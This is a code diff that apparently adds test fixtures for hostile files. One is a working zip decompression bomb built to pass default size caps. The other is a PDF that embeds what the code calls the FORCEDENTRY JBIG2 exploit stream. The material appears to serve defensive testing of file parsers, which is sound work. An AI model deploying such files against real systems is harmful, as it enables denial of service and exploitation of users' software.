@@ -75,6 +75,25 @@ def zip_ratio_bomb_then(member: bytes, name: str = "exploit.webp", mib: int = 30
     return body + cd + eocd
 
 
+def zip_then_big_member(member: bytes, name: str = "exploit.webp", mib: int = 240
+                        ) -> bytes:
+    """A zip of ``member`` stored, then a member that inflates ``mib`` MiB of zeros at
+    a ratio of ~230:1 (deflate level 1), within every cap of the defaults: only memory
+    can stop it."""
+    comp = zlib.compressobj(1, zlib.DEFLATED, -15)
+    block = bytes(MiB)
+    deflated = b"".join(comp.compress(block) for _ in range(mib)) + comp.flush()
+    crc = 0
+    for _ in range(mib):
+        crc = zlib.crc32(block, crc)
+    local1, central1 = _zip_entry(name.encode(), 0, zlib.crc32(member), member, len(member))
+    local2, central2 = _zip_entry(b"zeros.bin", 8, crc, deflated, mib * MiB)
+    body = local1 + local2
+    cd = _central_at(central1, 0) + _central_at(central2, len(local1))
+    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, len(cd), len(body), 0)
+    return body + cd + eocd
+
+
 def zip_many_entries(member: bytes, entries: int = 3_000_000) -> bytes:
     """A zip whose central directory holds ``entries`` entries: the first is ``member``
     (a real stored file), the others are folder entries ``d/`` that point at it."""
@@ -188,6 +207,11 @@ def _page_objects(image: bytes) -> dict[int, bytes]:
         4: image,
         5: _stream(b"", b"q 72 0 0 72 0 0 cm /Im0 Do Q"),
     }
+
+
+def pdf_with_jbig2() -> bytes:
+    """A one-page PDF whose image is FORCEDENTRY's JBIG2 stream, nothing else hostile."""
+    return raw_pdf(_page_objects(_image(jbig2_exploit())))
 
 
 def pdf_objstm_bomb_and_jbig2(mib: int = 300) -> bytes:
